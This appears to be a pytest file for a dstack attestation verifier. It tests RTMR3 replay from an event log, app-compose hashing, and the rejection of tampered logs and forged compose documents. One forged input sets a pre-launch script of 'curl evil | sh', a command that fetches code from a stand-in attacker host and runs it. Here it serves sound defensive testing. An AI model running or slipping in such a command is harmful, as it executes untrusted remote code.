"""dstack: the app-compose that runs only a given image, its hash, and RTMR3 replayed
from an event log (a real dstack node's, tests/image/vectors/SOURCES.md)."""

from __future__ import annotations

import copy
import hashlib
import json
from pathlib import Path

import pytest

from inferproof.errors import InputError, VerificationError
from inferproof.image import app_compose, compose_hash, image_of_app_compose, replay_rtmr3

VECTOR = json.loads((Path(__file__).parent / "vectors" / "dstack_event_log.json").read_text())
IMAGE = "sha256:" + "5e" * 32


def test_a_real_dstack_event_log_replays_to_its_rtmr3() -> None:
    rtmr3, events = replay_rtmr3(json.dumps(VECTOR["event_log"]))
    assert rtmr3.hex() == VECTOR["rtmr3"]
    names = [name for name, _ in events]
    assert names.count("compose-hash") == 1 and "app-id" in names
    assert dict(events)["compose-hash"].hex() == VECTOR["compose_hash"]


def test_every_changed_payload_or_name_is_refused() -> None:
    rtmr3_events = [i for i, e in enumerate(VECTOR["event_log"]) if e["imr"] == 3]
    for i in rtmr3_events:
        for field, value in (("event_payload", "00"), ("event", "compose-hashX")):
            log = copy.deepcopy(VECTOR["event_log"])
            log[i][field] = log[i][field] + value
            with pytest.raises(VerificationError, match=r"image\.event_log"):
                replay_rtmr3(json.dumps(log))


def test_reordered_or_dropped_events_replay_to_another_value() -> None:
    log = copy.deepcopy(VECTOR["event_log"])
    threes = [i for i, e in enumerate(log) if e["imr"] == 3]
    a, b = threes[1], threes[2]
    log[a], log[b] = log[b], log[a]
    assert replay_rtmr3(json.dumps(log))[0].hex() != VECTOR["rtmr3"]
    del log[threes[-1]]
    assert replay_rtmr3(json.dumps(log))[0].hex() != VECTOR["rtmr3"]


def test_an_rtmr3_event_of_another_type_is_refused() -> None:
    log = copy.deepcopy(VECTOR["event_log"])
    first = next(e for e in log if e["imr"] == 3)
    first["event_type"] = 1
    with pytest.raises(VerificationError, match="not a dstack runtime event"):
        replay_rtmr3(json.dumps(log))


def test_hostile_logs_are_refused_clearly() -> None:
    for bad in ("{", "{}", json.dumps([{"imr": 3, "event_type": 0x08000001, "event": "x",
                                        "event_payload": "zz", "digest": "00"}])):  # fmt: skip
        with pytest.raises(InputError):
            replay_rtmr3(bad)
    with pytest.raises(InputError, match="over"):
        replay_rtmr3(" " * (1024**2 + 1))


def test_the_app_compose_names_the_image_and_hashes_as_sha256() -> None:
    doc = app_compose(IMAGE, "ghcr.io/example/inferproof")
    assert doc == app_compose(IMAGE, "ghcr.io/example/inferproof")  # the same every time
    assert compose_hash(doc) == hashlib.sha256(doc).hexdigest()
    compose = json.loads(doc)["docker_compose_file"]
    assert f"image: ghcr.io/example/inferproof@{IMAGE}" in compose
    assert f'INFERPROOF_IMAGE: "{IMAGE}"' in compose
    assert json.loads(doc)["allowed_envs"] == [] and "pre_launch_script" not in json.loads(doc)
    assert image_of_app_compose(doc) == IMAGE
    assert compose_hash(app_compose("sha256:" + "5f" * 32, "ghcr.io/example/inferproof")) != \
        compose_hash(doc)  # fmt: skip


def test_any_other_app_compose_is_refused() -> None:
    doc = json.loads(app_compose(IMAGE, "ghcr.io/example/inferproof"))
    extra_service = dict(doc, docker_compose_file=doc["docker_compose_file"]
                         + "  sidecar:\n    image: busybox:latest\n")  # fmt: skip
    script = dict(doc, pre_launch_script="curl evil | sh")
    envs = dict(doc, allowed_envs=["INFERPROOF_IMAGE"])
    other_env = dict(doc, docker_compose_file=doc["docker_compose_file"].replace(
        f'INFERPROOF_IMAGE: "{IMAGE}"', 'INFERPROOF_IMAGE: "sha256:' + "00" * 32 + '"'))
    for forged in (extra_service, script, envs, other_env):
        raw = json.dumps(forged, separators=(",", ":"), sort_keys=True).encode()
        with pytest.raises(VerificationError, match=r"image\.app_compose"):
            image_of_app_compose(raw)
    tagged = dict(doc, docker_compose_file="services:\n  inferproof:\n    image: x:latest\n")
    with pytest.raises(VerificationError, match="no image by digest"):
        image_of_app_compose(json.dumps(tagged).encode())


def test_every_bit_flip_of_the_app_compose_is_refused_or_names_the_same_image() -> None:
    # A flip inside the repository name can give the app-compose of the same image from
    # another repository: still only that image runs (its hash then differs from RTMR3's).
    repository = "ghcr.io/example/inferproof"
    doc = app_compose(IMAGE, repository)
    start = doc.index(repository.encode())
    for i in range(len(doc)):
        for bit in range(8):
            flipped = bytearray(doc)
            flipped[i] ^= 1 << bit
            try:
                image = image_of_app_compose(bytes(flipped))
            except (VerificationError, InputError):
                continue
            assert image == IMAGE and start <= i < start + len(repository), (i, bit)


@pytest.mark.parametrize("image, repository", [
    ("sha256:" + "AB" * 32, "ghcr.io/x/y"), ("latest", "ghcr.io/x/y"),
    (IMAGE, "ghcr.io/x/y:latest@sha256"), (IMAGE, "Bad Repo"), (IMAGE, ""),
])  # fmt: skip
def test_bad_names_are_refused(image: str, repository: str) -> None:
    with pytest.raises(InputError):
        app_compose(image, repository)
